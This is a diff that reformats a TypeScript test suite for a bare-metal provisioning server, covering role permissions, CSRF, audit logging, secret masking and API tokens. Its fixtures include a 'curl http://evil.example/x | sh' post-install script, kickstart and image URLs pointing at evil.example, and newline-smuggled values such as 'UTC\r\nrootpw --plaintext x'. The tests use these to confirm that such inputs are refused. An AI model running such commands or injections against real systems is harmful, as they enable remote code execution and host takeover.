@@ -40,36 +40,78 @@ beforeEach(() => {
   assert.ok(!('error' in made));
   techToken = made.token;
   web = createWebRouter({
-    provisioner: env.core.provisioner, hosts: env.core.hosts, builds: env.core.builds, events: env.core.events, audit: env.core.audit, db: env.core.db,
-    catalog: env.core.catalog, profilesDir: env.config.profilesDir, templatesDir: env.config.templatesDir, publicUrl: 'http://10.99.0.1:8080', log: silentLogger(),
+    provisioner: env.core.provisioner,
+    hosts: env.core.hosts,
+    builds: env.core.builds,
+    events: env.core.events,
+    audit: env.core.audit,
+    db: env.core.db,
+    catalog: env.core.catalog,
+    profilesDir: env.config.profilesDir,
+    templatesDir: env.config.templatesDir,
+    publicUrl: 'http://10.99.0.1:8080',
+    log: silentLogger(),
   });
   app = createApp({
-    provisioner: env.core.provisioner, hosts: env.core.hosts, audit: env.core.audit, db: env.core.db, profiles: () => env.core.catalog.snapshot,
-    tftpRoot: env.config.tftpRoot, imagesDir: env.config.imagesDir, adminTokenHash: createHash('sha256').update(ADMIN).digest('hex'), log: silentLogger(),
-    routers: [web], userToken: (t) => tokens.authenticate(t), settings: new SettingsStore(env.core.db),
+    provisioner: env.core.provisioner,
+    hosts: env.core.hosts,
+    audit: env.core.audit,
+    db: env.core.db,
+    profiles: () => env.core.catalog.snapshot,
+    tftpRoot: env.config.tftpRoot,
+    imagesDir: env.config.imagesDir,
+    adminTokenHash: createHash('sha256').update(ADMIN).digest('hex'),
+    log: silentLogger(),
+    routers: [web],
+    userToken: (t) => tokens.authenticate(t),
+    settings: new SettingsStore(env.core.db),
     apiRouters: [createLogsApi({ hosts: env.core.hosts, builds: env.core.builds, syslog: env.core.syslog })],
   });
 });
-afterEach(() => { web.close(); env.cleanup(); });
+afterEach(() => {
+  web.close();
+  env.cleanup();
+});
 
 const as = (token: string) => ({ Authorization: `Bearer ${token}` });
 const csrfOf = (html: string) => /name="_csrf" value="([^"]+)"/.exec(html)?.[1] ?? '';
 async function login(name: string) {
   const agent = request.agent(app);
   const page = await agent.get('/login');
-  const res = await agent.post('/login').type('form').send({ _csrf: csrfOf(page.text), name, password: PW, next: '/' });
+  const res = await agent
+    .post('/login')
+    .type('form')
+    .send({ _csrf: csrfOf(page.text), name, password: PW, next: '/' });
   assert.equal(res.status, 303, res.text);
   const home = await agent.get('/');
   return { agent, csrf: csrfOf(home.text) };
 }
-const auditRows = () => env.core.db.prepare('SELECT actor, action, target, diff FROM audit ORDER BY id').all() as { actor: string; action: string; target: string; diff: string | null }[];
-const hostBody = (params: Record<string, unknown>, mac = SAMPLE_HOST.mac, hostname = SAMPLE_HOST.hostname) => ({ ...SAMPLE_HOST, mac, hostname, params });
+const auditRows = () =>
+  env.core.db.prepare('SELECT actor, action, target, diff FROM audit ORDER BY id').all() as {
+    actor: string;
+    action: string;
+    target: string;
+    diff: string | null;
+  }[];
+const hostBody = (params: Record<string, unknown>, mac = SAMPLE_HOST.mac, hostname = SAMPLE_HOST.hostname) => ({
+  ...SAMPLE_HOST,
+  mac,
+  hostname,
+  params,
+});
 
 test('a tech token cannot set post, rootPassword, satellite, stig, image or kernel args via the API: 403 naming the field, nothing written', async () => {
   const forbidden: Record<string, string>[] = [
-    { post: 'curl http://evil.example/x | sh' }, { rootPassword: ROOT_HASH }, { 'satellite.server': 'evil.example' }, { 'stig.enabled': 'false' },
-    { 'image.liveimg': 'http://evil.example/hv.img' }, { image: 'other' }, { 'boot.kernelArgs': 'inst.ks=http://evil.example/ks' }, { sshKeys: '[ssh-ed25519 AAAA x]' },
-    { boot: '{}' }, { 'timezone.name': 'UTC' },
+    { post: 'curl http://evil.example/x | sh' },
+    { rootPassword: ROOT_HASH },
+    { 'satellite.server': 'evil.example' },
+    { 'stig.enabled': 'false' },
+    { 'image.liveimg': 'http://evil.example/hv.img' },
+    { image: 'other' },
+    { 'boot.kernelArgs': 'inst.ks=http://evil.example/ks' },
+    { sshKeys: '[ssh-ed25519 AAAA x]' },
+    { boot: '{}' },
+    { 'timezone.name': 'UTC' },
   ];
   for (const params of forbidden) {
     const r = await request(app).post('/api/hosts').set(as(techToken)).send(hostBody(params));
@@ -78,7 +120,15 @@ test('a tech token cannot set post, rootPassword, satellite, stig, image or kern
     assert.ok(r.body.error.includes(`params.${key}:`), r.body.error);
     assert.match(r.body.error, /tech role/);
   }
-  assert.match((await request(app).post('/api/hosts').set(as(techToken)).send(hostBody({ post: 'x' }))).body.error, /can never set/);
+  assert.match(
+    (
+      await request(app)
+        .post('/api/hosts')
+        .set(as(techToken))
+        .send(hostBody({ post: 'x' }))
+    ).body.error,
+    /can never set/,
+  );
   assert.equal(env.core.hosts.list().length, 0);
   assert.equal(auditRows().length, 0);
 
@@ -89,50 +139,119 @@ test('a tech token cannot set post, rootPassword, satellite, stig, image or kern
   const del = await request(app).delete(`/api/hosts/${SAMPLE_HOST.mac}`).set(as(techToken));
   assert.equal(del.status, 403);
   assert.match(del.body.error, /admin role/);
-  assert.deepEqual(auditRows().map((a) => a.actor), ['api:tom', 'api:tom', 'api:tom'], 'the audit names the person, not "api"');
+  assert.deepEqual(
+    auditRows().map((a) => a.actor),
+    ['api:tom', 'api:tom', 'api:tom'],
+    'the audit names the person, not "api"',
+  );
 
   // A tech cannot drop or change an admin's parameter either (PUT), but may change what the admin allowed.
-  assert.equal((await request(app).put(`/api/hosts/${SAMPLE_HOST.mac}`).set(as(ADMIN)).send({ params: { 'stig.enabled': 'true' } })).status, 200);
+  assert.equal(
+    (
+      await request(app)
+        .put(`/api/hosts/${SAMPLE_HOST.mac}`)
+        .set(as(ADMIN))
+        .send({ params: { 'stig.enabled': 'true' } })
+    ).status,
+    200,
+  );
   const drop = await request(app).put(`/api/hosts/${SAMPLE_HOST.mac}`).set(as(techToken)).send({ params: {} });
   assert.equal(drop.status, 403);
   assert.match(drop.body.error, /params\.stig\.enabled/);
-  const ka = await request(app).put(`/api/hosts/${SAMPLE_HOST.mac}`).set(as(techToken)).send({ params: { 'stig.enabled': 'true', 'boot.kernelArgs': 'x' } });
+  const ka = await request(app)
+    .put(`/api/hosts/${SAMPLE_HOST.mac}`)
+    .set(as(techToken))
+    .send({ params: { 'stig.enabled': 'true', 'boot.kernelArgs': 'x' } });
   assert.equal(ka.status, 403);
   assert.deepEqual(env.core.hosts.get(SAMPLE_HOST.mac as Mac)!.params, { 'stig.enabled': 'true' });
-  assert.equal((await request(app).put(`/api/hosts/${SAMPLE_HOST.mac}`).set(as(techToken)).send({ rack: 'R9' })).status, 200, 'other fields: fine');
-  const move = await request(app).put(`/api/hosts/${SAMPLE_HOST.mac}`).set(as(techToken)).send({ profile: 'rhvh-custom-thin' });
+  assert.equal(
+    (await request(app).put(`/api/hosts/${SAMPLE_HOST.mac}`).set(as(techToken)).send({ rack: 'R9' })).status,
+    200,
+    'other fields: fine',
+  );
+  const move = await request(app)
+    .put(`/api/hosts/${SAMPLE_HOST.mac}`)
+    .set(as(techToken))
+    .send({ profile: 'rhvh-custom-thin' });
   assert.equal(move.status, 403);
   assert.match(move.body.error, /^profile: the tech role may not move rhvh01/);
   assert.equal(env.core.hosts.get(SAMPLE_HOST.mac as Mac)!.profile, 'rhvh-base');
 });
 
 test('the admin allow-list opens harmless parameters to techs, never the forbidden ones; only an admin changes it', async () => {
-  const tech = await request(app).put('/api/settings/tech-params').set(as(techToken)).send({ techParams: ['timezone.name'] });
+  const tech = await request(app)
+    .put('/api/settings/tech-params')
+    .set(as(techToken))
+    .send({ techParams: ['timezone.name'] });
   assert.equal(tech.status, 403);
-  for (const bad of [['post'], ['satellite.org'], ['boot'], ['imageX'], ['boot.kernelArgs'], ['nosuch.field'], ['timezone.name\r\npost'], ['timezone.name\u2028'], [7], 'timezone.name', [{}], Array(65).fill('lang')]) {
+  for (const bad of [
+    ['post'],
+    ['satellite.org'],
+    ['boot'],
+    ['imageX'],
+    ['boot.kernelArgs'],
+    ['nosuch.field'],
+    ['timezone.name\r\npost'],
+    ['timezone.name\u2028'],
+    [7],
+    'timezone.name',
+    [{}],
+    Array(65).fill('lang'),
+  ]) {
     const r = await request(app).put('/api/settings/tech-params').set(as(ADMIN)).send({ techParams: bad });
     assert.equal(r.status, 400, JSON.stringify(bad).slice(0, 80));
     assert.match(r.body.error, /techParams/);
   }
-  assert.match((await request(app).put('/api/settings/tech-params').set(as(ADMIN)).send({ techParams: ['post'] })).body.error, /can never be opened to techs/);
+  assert.match(
+    (
+      await request(app)
+        .put('/api/settings/tech-params')
+        .set(as(ADMIN))
+        .send({ techParams: ['post'] })
+    ).body.error,
+    /can never be opened to techs/,
+  );
   assert.deepEqual(new SettingsStore(env.core.db).techParams(), [], 'nothing changed');
 
-  const ok = await request(app).put('/api/settings/tech-params').set(as(ADMIN)).send({ techParams: ['timezone.name', 'ntpServers'] });
+  const ok = await request(app)
+    .put('/api/settings/tech-params')
+    .set(as(ADMIN))
+    .send({ techParams: ['timezone.name', 'ntpServers'] });
   assert.equal(ok.status, 200);
-  assert.deepEqual((await request(app).get('/api/settings/tech-params').set(as(techToken))).body.techParams, ['timezone.name', 'ntpServers']);
-  assert.equal((await request(app).post('/api/hosts').set(as(techToken)).send(hostBody({ 'timezone.name': 'America/Phoenix', ntpServers: '[ntp1.example.com]' }))).status, 201);
-  const still = await request(app).post('/api/hosts').set(as(techToken)).send(hostBody({ 'timezone.name': 'UTC', post: 'x' }, '52:54:00:aa:bb:02', 'rhvh02'));
+  assert.deepEqual((await request(app).get('/api/settings/tech-params').set(as(techToken))).body.techParams, [
+    'timezone.name',
+    'ntpServers',
+  ]);
+  assert.equal(
+    (
+      await request(app)
+        .post('/api/hosts')
+        .set(as(techToken))
+        .send(hostBody({ 'timezone.name': 'America/Phoenix', ntpServers: '[ntp1.example.com]' }))
+    ).status,
+    201,
+  );
+  const still = await request(app)
+    .post('/api/hosts')
+    .set(as(techToken))
+    .send(hostBody({ 'timezone.name': 'UTC', post: 'x' }, '52:54:00:aa:bb:02', 'rhvh02'));
   assert.equal(still.status, 403);
   assert.match(still.body.error, /params\.post/);
   const setting = auditRows().find((a) => a.action === 'settings.tech-params')!;
-  assert.deepEqual(JSON.parse(setting.diff!), { before: { techParams: [] }, after: { techParams: ['timezone.name', 'ntpServers'] } });
+  assert.deepEqual(JSON.parse(setting.diff!), {
+    before: { techParams: [] },
+    after: { techParams: ['timezone.name', 'ntpServers'] },
+  });
 });
 
-test('rack CSV: a tech\'s param.post column is refused 403 naming the field and line; nothing imported', async () => {
+test("rack CSV: a tech's param.post column is refused 403 naming the field and line; nothing imported", async () => {
   const csv = `mac,hostname,profile,param.post\n52:54:00:aa:bb:01,rhvh01,rhvh-base,\n52:54:00:aa:bb:02,rhvh02,rhvh-base,curl http://evil.example | sh\n`;
   const r = await request(app).post('/api/hosts/import').set(as(techToken)).type('text/csv').send(csv);
   assert.equal(r.status, 403, r.text);
-  assert.ok(r.body.problems.some((p: string) => p.startsWith('line 3: params.post:')), JSON.stringify(r.body.problems));
+  assert.ok(
+    r.body.problems.some((p: string) => p.startsWith('line 3: params.post:')),
+    JSON.stringify(r.body.problems),
+  );
   assert.equal(env.core.hosts.list().length, 0);
 
   // The web import of a tech: the same rule, the page names the field.
@@ -145,18 +264,32 @@ test('rack CSV: a tech\'s param.post column is refused 403 naming the field and 
   // An admin may import it; a row without params imports for a tech.
   assert.equal((await request(app).post('/api/hosts/import').set(as(ADMIN)).type('text/csv').send(csv)).status, 201);
   assert.equal(env.core.hosts.get('52:54:00:aa:bb:02' as Mac)!.params.post, 'curl http://evil.example | sh');
-  const plain = await request(app).post('/api/hosts/import').set(as(techToken)).type('text/csv').send('mac,hostname,profile\n52:54:00:aa:bb:03,rhvh03,rhvh-base\n');
+  const plain = await request(app)
+    .post('/api/hosts/import')
+    .set(as(techToken))
+    .type('text/csv')
+    .send('mac,hostname,profile\n52:54:00:aa:bb:03,rhvh03,rhvh-base\n');
   assert.equal(plain.status, 201);
   const imp = auditRows().filter((a) => a.action === 'host.import');
-  assert.deepEqual(imp.map((a) => a.actor), ['api', 'api:tom']);
-  assert.equal(JSON.parse(imp[0].diff!).after[1].params.post, 'curl http://evil.example | sh', 'the import records whole hosts, parameters included');
+  assert.deepEqual(
+    imp.map((a) => a.actor),
+    ['api', 'api:tom'],
+  );
+  assert.equal(
+    JSON.parse(imp[0].diff!).after[1].params.post,
+    'curl http://evil.example | sh',
+    'the import records whole hosts, parameters included',
+  );
 });
 
 test('parameters are checked against the profile when saved: a misspelt or invalid one is refused naming it (API, CSV, form)', async () => {
   const cases: [Record<string, unknown>, RegExp][] = [
     [{ 'timezon.name': 'UTC' }, /params\.timezon\.name: not a field of the profile/],
     [{ 'timezone.nmae': 'UTC' }, /params\.timezone\.nmae: not a field of the profile/],
-    [{ 'timezone.name': 'Not A Zone' }, /params\.timezone\.name: does not fit profile rhvh-base: must be a tz database name/],
+    [
+      { 'timezone.name': 'Not A Zone' },
+      /params\.timezone\.name: does not fit profile rhvh-base: must be a tz database name/,
+    ],
     [{ 'timezone.name': 'UTC\r\nrootpw --plaintext x' }, /params\.timezone\.name:/],
     [{ 'timezone.name': 'UTC\u2028x' }, /params\.timezone\.name:/],
     [{ 'timezone.utc': 'sometimes' }, /params\.timezone\.utc:/],
@@ -167,22 +300,49 @@ test('parameters are checked against the profile when saved: a misspelt or inval
   for (const [params, want] of cases) {
     const r = await request(app).post('/api/hosts').set(as(ADMIN)).send(hostBody(params));
     // 422: the record's own grammar (src/hosts/input.ts) refused it first; 400: the profile schema did. Both name the field.
-    assert.ok(r.status === 400 || r.status === 422, `${JSON.stringify(params).slice(0, 60)}: ${r.status} ${r.text.slice(0, 200)}`);
+    assert.ok(
+      r.status === 400 || r.status === 422,
+      `${JSON.stringify(params).slice(0, 60)}: ${r.status} ${r.text.slice(0, 200)}`,
+    );
     assert.match(r.body.error, want);
   }
   assert.equal(env.core.hosts.list().length, 0);
-  assert.equal((await request(app).post('/api/hosts').set(as(ADMIN)).send(hostBody({ 'timezone.name': 'America/Phoenix' }))).status, 201);
+  assert.equal(
+    (
+      await request(app)
+        .post('/api/hosts')
+        .set(as(ADMIN))
+        .send(hostBody({ 'timezone.name': 'America/Phoenix' }))
+    ).status,
+    201,
+  );
   // PUT that moves the host to a profile the parameter does not fit is refused too.
-  const put = await request(app).put(`/api/hosts/${SAMPLE_HOST.mac}`).set(as(ADMIN)).send({ params: { 'timezone.name': 'America/Phoenix', 'satellite.org': 'x' } });
+  const put = await request(app)
+    .put(`/api/hosts/${SAMPLE_HOST.mac}`)
+    .set(as(ADMIN))
+    .send({ params: { 'timezone.name': 'America/Phoenix', 'satellite.org': 'x' } });
   assert.equal(put.status, 400);
   assert.match(put.body.error, /params\.satellite\.org/);
 
-  const csv = await request(app).post('/api/hosts/import').set(as(ADMIN)).type('text/csv').send('mac,hostname,profile,param.timezon.name\n52:54:00:aa:bb:07,rhvh07,rhvh-base,UTC\n');
+  const csv = await request(app)
+    .post('/api/hosts/import')
+    .set(as(ADMIN))
+    .type('text/csv')
+    .send('mac,hostname,profile,param.timezon.name\n52:54:00:aa:bb:07,rhvh07,rhvh-base,UTC\n');
   assert.equal(csv.status, 422);
   assert.match(csv.body.problems.join('\n'), /line 2: params\.timezon\.name: not a field of the profile/);
 
   const { agent, csrf } = await login('alice');
-  const form = await agent.post('/hosts').type('form').send({ _csrf: csrf, mac: '52:54:00:aa:bb:08', hostname: 'rhvh08', profile: 'rhvh-base', params: 'timezon.name = UTC' });
+  const form = await agent
+    .post('/hosts')
+    .type('form')
+    .send({
+      _csrf: csrf,
+      mac: '52:54:00:aa:bb:08',
+      hostname: 'rhvh08',
+      profile: 'rhvh-base',
+      params: 'timezon.name = UTC',
+    });
   assert.equal(form.status, 400);
   assert.match(form.text, /params\.timezon\.name: not a field of the profile/);
   assert.equal(env.core.hosts.get('52:54:00:aa:bb:08' as Mac), undefined);
@@ -191,12 +351,26 @@ test('parameters are checked against the profile when saved: a misspelt or inval
 });
 
 test('audit: whole host records before and after, parameters included, secrets masked; profile edits masked too', async () => {
-  assert.equal((await request(app).post('/api/hosts').set(as(ADMIN)).send(hostBody({ 'timezone.name': 'UTC' }))).status, 201);
-  const put = await request(app).put(`/api/hosts/${SAMPLE_HOST.mac}`).set(as(ADMIN)).send({ rack: 'R2', params: { 'timezone.name': 'America/Phoenix', rootPassword: ROOT_HASH } });
+  assert.equal(
+    (
+      await request(app)
+        .post('/api/hosts')
+        .set(as(ADMIN))
+        .send(hostBody({ 'timezone.name': 'UTC' }))
+    ).status,
+    201,
+  );
+  const put = await request(app)
+    .put(`/api/hosts/${SAMPLE_HOST.mac}`)
+    .set(as(ADMIN))
+    .send({ rack: 'R2', params: { 'timezone.name': 'America/Phoenix', rootPassword: ROOT_HASH } });
   assert.equal(put.status, 200, put.text);
   assert.equal((await request(app).delete(`/api/hosts/${SAMPLE_HOST.mac}`).set(as(ADMIN))).status, 204);
   const rows = auditRows();
-  assert.deepEqual(rows.map((r) => r.action), ['host.create', 'host.update', 'host.delete']);
+  assert.deepEqual(
+    rows.map((r) => r.action),
+    ['host.create', 'host.update', 'host.delete'],
+  );
   const [create, update, del] = rows.map((r) => JSON.parse(r.diff!));
   assert.deepEqual(create.after.params, { 'timezone.name': 'UTC' });
   assert.equal(create.before, undefined);
@@ -212,18 +386,31 @@ test('audit: whole host records before and after, parameters included, secrets m
   const file = join(env.config.profilesDir, 'rhvh-stig-satellite.yaml');
   const before = readFileSync(file, 'utf8');
   const after = before.replace('activationKey: rhvh-hosts', `activationKey: ${ACTIVATION}`);
-  const saved = await agent.post('/profiles/rhvh-stig-satellite').type('form').send({ _csrf: csrf, text: after, base: before, action: 'save' });
+  const saved = await agent
+    .post('/profiles/rhvh-stig-satellite')
+    .type('form')
+    .send({ _csrf: csrf, text: after, base: before, action: 'save' });
   assert.equal(saved.status, 303, saved.text.slice(0, 500));
   const edit = auditRows().find((r) => r.action === 'profile.update')!;
   assert.ok(!edit.diff!.includes(ACTIVATION) && !edit.diff!.includes('rhvh-hosts'), edit.diff!);
   const unified = JSON.parse(edit.diff!).unified as string;
   assert.match(unified, /^-\s+activationKey: \*{8}/m);
   assert.match(unified, /^\+\s+activationKey: \*{8} \(changed\)/m);
-  assert.ok(!unified.includes(ROOT_HASH.slice(0, 10)) && !unified.includes('$6$f3jJz'), 'the inherited root hash of the base is not in the diff either');
+  assert.ok(
+    !unified.includes(ROOT_HASH.slice(0, 10)) && !unified.includes('$6$f3jJz'),
+    'the inherited root hash of the base is not in the diff either',
+  );
 
   // The audit page, for a tech: the old-style entry written before masking existed is masked when shown.
-  env.core.db.prepare('INSERT INTO audit (at, actor, action, target, diff) VALUES (?, ?, ?, ?, ?)')
-    .run(Date.now(), 'api', 'host.update', SAMPLE_HOST.mac, JSON.stringify({ params: { from: {}, to: { rootPassword: ROOT_HASH, 'satellite.activationKey': ACTIVATION } } }));
+  env.core.db
+    .prepare('INSERT INTO audit (at, actor, action, target, diff) VALUES (?, ?, ?, ?, ?)')
+    .run(
+      Date.now(),
+      'api',
+      'host.update',
+      SAMPLE_HOST.mac,
+      JSON.stringify({ params: { from: {}, to: { rootPassword: ROOT_HASH, 'satellite.activationKey': ACTIVATION } } }),
+    );
   const { agent: t } = await login('tom');
   const page = await t.get('/audit');
   assert.equal(page.status, 200);
@@ -233,11 +420,24 @@ test('audit: whole host records before and after, parameters included, secrets m
 });
 
 test('a tech sees secrets masked on the profile page, the parameter table, the failure log, the timeline and the API', async () => {
-  env.core.hosts.insert({ ...SAMPLE_HOST, mac: SAMPLE_HOST.mac as Mac, profile: 'rhvh-stig-satellite', nameservers: [], params: { 'satellite.activationKey': ACTIVATION } });
+  env.core.hosts.insert({
+    ...SAMPLE_HOST,
+    mac: SAMPLE_HOST.mac as Mac,
+    profile: 'rhvh-stig-satellite',
+    nameservers: [],
+    params: { 'satellite.activationKey': ACTIVATION },
+  });
   const started = env.core.provisioner.startBuild(SAMPLE_HOST.mac as Mac, 'test');
   assert.ok(started.ok, started.ok ? '' : started.message);
-  env.core.provisioner.callback(started.value.token, 'failed', '10.99.0.11', `subscription-manager register --org Example_Org --activationkey ${ACTIVATION}\nerror: 401`);
-  const baseHash = /rootPassword: '([^']+)'/.exec(readFileSync(join(env.config.profilesDir, 'rhvh-base.yaml'), 'utf8'))![1];
+  env.core.provisioner.callback(
+    started.value.token,
+    'failed',
+    '10.99.0.11',
+    `subscription-manager register --org Example_Org --activationkey ${ACTIVATION}\nerror: 401`,
+  );
+  const baseHash = /rootPassword: '([^']+)'/.exec(
+    readFileSync(join(env.config.profilesDir, 'rhvh-base.yaml'), 'utf8'),
+  )![1];
 
   const { agent: tom } = await login('tom');
   const prof = await tom.get('/profiles/rhvh-base');
@@ -249,7 +449,10 @@ test('a tech sees secrets masked on the profile page, the parameter table, the f
   assert.ok(!sat.text.includes('rhvh-hosts'));
   const host = await tom.get(`/hosts/${SAMPLE_HOST.mac}`);
   assert.equal(host.status, 200);
-  assert.ok(!host.text.includes(ACTIVATION), 'activation key masked on the host page (parameters, failure log, previews)');
+  assert.ok(
+    !host.text.includes(ACTIVATION),
+    'activation key masked on the host page (parameters, failure log, previews)',
+  );
   assert.match(host.text, /satellite\.activationKey<\/code><\/td><td><code>\*{8}/);
   assert.match(host.text, /--activationkey \*{8}/);
 
@@ -262,16 +465,23 @@ test('a tech sees secrets masked on the profile page, the parameter table, the f
   const view = await request(app).get(`/api/hosts/${SAMPLE_HOST.mac}`).set(as(techToken));
   assert.equal(view.status, 200);
   assert.ok(!JSON.stringify(view.body).includes(ACTIVATION), JSON.stringify(view.body).slice(0, 300));
-  assert.equal(view.body.host?.params?.['satellite.activationKey'] ?? view.body.params?.['satellite.activationKey'], '********');
+  assert.equal(
+    view.body.host?.params?.['satellite.activationKey'] ?? view.body.params?.['satellite.activationKey'],
+    '********',
+  );
   const ks = await request(app).get(`/api/hosts/${SAMPLE_HOST.mac}/render/kickstart`).set(as(techToken));
   assert.equal(ks.status, 200);
   assert.ok(!ks.text.includes(ACTIVATION) && !ks.text.includes(baseHash), 'the rendered kickstart is masked');
   const list = await request(app).get('/api/hosts').set(as(techToken));
   assert.ok(!JSON.stringify(list.body).includes(ACTIVATION));
-  const logs = await request(app).get(`/api/hosts/${SAMPLE_HOST.mac}/builds/${started.value.buildId}/logs`).set(as(techToken));
+  const logs = await request(app)
+    .get(`/api/hosts/${SAMPLE_HOST.mac}/builds/${started.value.buildId}/logs`)
+    .set(as(techToken));
   assert.equal(logs.status, 200);
   assert.match(logs.body.failureLog, /--activationkey \*{8}/);
-  const adminView = await request(app).get(`/api/hosts/${SAMPLE_HOST.mac}/builds/${started.value.buildId}/logs`).set(as(ADMIN));
+  const adminView = await request(app)
+    .get(`/api/hosts/${SAMPLE_HOST.mac}/builds/${started.value.buildId}/logs`)
+    .set(as(ADMIN));
   assert.ok(adminView.body.failureLog.includes(ACTIVATION));
 });
 
@@ -282,7 +492,10 @@ test('per-user API tokens: CLI and account page create (shown once, hashed), the
   assert.equal(await usersCommand(env.config, io, ['token', 'alice'], {}), 0, err.join('\n'));
   const aliceToken = out.pop()!;
   assert.match(aliceToken, /^rbt_[A-Za-z0-9_-]{43}$/);
-  const stored = env.core.db.prepare('SELECT token_hash, prefix FROM api_tokens').all() as { token_hash: string; prefix: string }[];
+  const stored = env.core.db.prepare('SELECT token_hash, prefix FROM api_tokens').all() as {
+    token_hash: string;
+    prefix: string;
+  }[];
   assert.ok(!JSON.stringify(stored).includes(aliceToken.slice(12)), 'only a hash and the prefix are stored');
   assert.ok(stored.some((s) => s.token_hash === createHash('sha256').update(aliceToken).digest('hex')));
   assert.equal(await usersCommand(env.config, io, ['token', 'nobody'], {}), 1);
@@ -292,7 +505,11 @@ test('per-user API tokens: CLI and account page create (shown once, hashed), the
   assert.equal((await request(app).delete(`/api/hosts/${SAMPLE_HOST.mac}`).set(as(aliceToken))).status, 204);
   assert.equal(auditRows().at(-1)!.actor, 'api:alice');
   assert.equal(await usersCommand(env.config, io, ['tokens', 'alice'], {}), 0);
-  assert.match(out.at(-1)!, new RegExp(`^rbt_${aliceToken.slice(4, 12)}…\\t\\d{4}-.*\\t\\d{4}-`), 'listed with prefix, created and last used');
+  assert.match(
+    out.at(-1)!,
+    new RegExp(`^rbt_${aliceToken.slice(4, 12)}…\\t\\d{4}-.*\\t\\d{4}-`),
+    'listed with prefix, created and last used',
+  );
   assert.equal(await usersCommand(env.config, io, ['revoke-token', 'alice', aliceToken.slice(4, 12)], {}), 0);
   assert.equal((await request(app).get('/api/hosts').set(as(aliceToken))).status, 401, 'revoked');
 
@@ -306,10 +523,25 @@ test('per-user API tokens: CLI and account page create (shown once, hashed), the
   assert.ok(!again.text.includes(shown!), 'shown once only');
   assert.ok(again.text.includes(`rbt_${shown!.slice(4, 12)}…`), 'listed by prefix');
   assert.equal((await request(app).get('/api/hosts').set(as(shown!))).status, 200);
-  assert.equal((await request(app).put('/api/settings/tech-params').set(as(shown!)).send({ techParams: [] })).status, 403, "the tech's token has the tech role");
-  const noCsrf = await agent.post(`/account/tokens/${shown!.slice(4, 12)}/revoke`).type('form').send({});
+  assert.equal(
+    (await request(app).put('/api/settings/tech-params').set(as(shown!)).send({ techParams: [] })).status,
+    403,
+    "the tech's token has the tech role",
+  );
+  const noCsrf = await agent
+    .post(`/account/tokens/${shown!.slice(4, 12)}/revoke`)
+    .type('form')
+    .send({});
   assert.equal(noCsrf.status, 403);
-  assert.equal((await agent.post(`/account/tokens/${shown!.slice(4, 12)}/revoke`).type('form').send({ _csrf: csrf })).status, 303);
+  assert.equal(
+    (
+      await agent
+        .post(`/account/tokens/${shown!.slice(4, 12)}/revoke`)
+        .type('form')
+        .send({ _csrf: csrf })
+    ).status,
+    303,
+  );
   assert.equal((await request(app).get('/api/hosts').set(as(shown!))).status, 401);
 
   // An admin revokes all of a user's tokens on the Users page.
@@ -329,8 +561,23 @@ test('per-user API tokens: CLI and account page create (shown once, hashed), the
   users.setDisabled('tom', true);
   assert.equal((await request(app).get('/api/hosts').set(as(techToken))).status, 401);
   assert.equal((await request(app).get('/api/hosts').set(as(ADMIN))).status, 200);
-  for (const bad of ['', 'rbt_', `rbt_${'A'.repeat(43)}`, 'x'.repeat(10_000), `${techToken}\r\n`, 'rbt_\u2028'.padEnd(47, 'a')]) {
-    assert.equal((await request(app).get('/api/hosts').set('Authorization', `Bearer ${bad}`.replace(/[\r\n\u2028]/g, ''))).status, 401, bad.slice(0, 20));
+  for (const bad of [
+    '',
+    'rbt_',
+    `rbt_${'A'.repeat(43)}`,
+    'x'.repeat(10_000),
+    `${techToken}\r\n`,
+    'rbt_\u2028'.padEnd(47, 'a'),
+  ]) {
+    assert.equal(
+      (
+        await request(app)
+          .get('/api/hosts')
+          .set('Authorization', `Bearer ${bad}`.replace(/[\r\n\u2028]/g, ''))
+      ).status,
+      401,
+      bad.slice(0, 20),
+    );
   }
   assert.ok(auditRows().some((a) => a.action === 'user.token.create' && a.actor === 'web:tom'));
   assert.ok(auditRows().some((a) => a.action === 'user.token.revoke' && a.actor === 'cli'));
@@ -345,18 +592,35 @@ test('Settings page: an admin edits the tech allow-list (bad entries refused nam
   const page = await agent.get('/settings');
   assert.equal(page.status, 200);
   assert.match(page.text, /Never open to techs/);
-  for (const bad of ['post', 'timezone.name\nsatellite.server', 'timezone.name\u0000', 'lang\u2029', 'x'.repeat(200), 'image.kernel']) {
+  for (const bad of [
+    'post',
+    'timezone.name\nsatellite.server',
+    'timezone.name\u0000',
+    'lang\u2029',
+    'x'.repeat(200),
+    'image.kernel',
+  ]) {
     const r = await agent.post('/settings').type('form').send({ _csrf: csrf, techParams: bad });
     assert.equal(r.status, 400, JSON.stringify(bad).slice(0, 40));
     assert.match(r.text, /Nothing was changed: techParams\[\d\]/);
   }
   assert.equal((await agent.post('/settings').type('form').send({ techParams: 'lang' })).status, 403, 'CSRF');
   assert.deepEqual(new SettingsStore(env.core.db).techParams(), []);
-  const ok = await agent.post('/settings').type('form').send({ _csrf: csrf, techParams: 'timezone.name\r\nntpServers\r\n' });
+  const ok = await agent
+    .post('/settings')
+    .type('form')
+    .send({ _csrf: csrf, techParams: 'timezone.name\r\nntpServers\r\n' });
   assert.equal(ok.status, 303);
   assert.deepEqual(new SettingsStore(env.core.db).techParams(), ['timezone.name', 'ntpServers']);
   assert.equal(auditRows().at(-1)!.actor, 'web:alice');
-  const imp = await tom.post('/hosts/import').type('form').send({ _csrf: tc, csv: 'mac,hostname,profile,param.timezone.name\n52:54:00:aa:bb:0a,new2,rhvh-base,America/Phoenix\n', action: 'import' });
+  const imp = await tom
+    .post('/hosts/import')
+    .type('form')
+    .send({
+      _csrf: tc,
+      csv: 'mac,hostname,profile,param.timezone.name\n52:54:00:aa:bb:0a,new2,rhvh-base,America/Phoenix\n',
+      action: 'import',
+    });
   assert.equal(imp.status, 303, 'an allowed parameter imports for a tech');
   assert.equal(env.core.hosts.get('52:54:00:aa:bb:0a' as Mac)!.params['timezone.name'], 'America/Phoenix');
 });
@@ -368,7 +632,16 @@ test('rackboot hosts import (CLI) checks parameters against the profile too', as
   writeFileSync(file, 'mac,hostname,profile,param.timezon.name\n52:54:00:aa:bb:0c,rhvh12,rhvh-base,UTC\n');
   const err: string[] = [];
   const io = { out: () => {}, err: (s: string) => err.push(s), readStdin: async () => '', env: {} };
-  const flags = ['--data-dir', env.config.dataDir, '--profiles-dir', env.config.profilesDir, '--tftp-root', env.config.tftpRoot, '--images-dir', env.config.imagesDir];
+  const flags = [
+    '--data-dir',
+    env.config.dataDir,
+    '--profiles-dir',
+    env.config.profilesDir,
+    '--tftp-root',
+    env.config.tftpRoot,
+    '--images-dir',
+    env.config.imagesDir,
+  ];
